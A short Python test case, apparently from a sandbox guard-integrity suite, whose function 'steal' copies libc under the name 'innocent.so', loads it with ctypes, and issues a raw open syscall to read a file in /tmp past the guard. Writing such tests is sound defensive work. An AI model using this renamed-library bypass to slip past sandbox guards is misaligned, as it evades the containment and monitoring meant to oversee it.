# class: symbols
# rule: read_write_tmp guard_integrity native_code
# success: a copy of libc under another name, loaded beside it, reads a file in /tmp
# proof: read
import ctypes
import os
import shutil

from attack import FILE, attempt


@attempt
def steal():
    with open("/proc/self/maps") as maps:
        path = next(line.split()[-1] for line in maps if "libc.so.6" in line)
    shutil.copy(path, "innocent.so")
    copy = ctypes.CDLL("./innocent.so")
    fd = copy.syscall(ctypes.c_long(2), FILE.encode(), ctypes.c_long(0), ctypes.c_long(0))
    return os.read(fd, 100) if fd >= 0 else ""
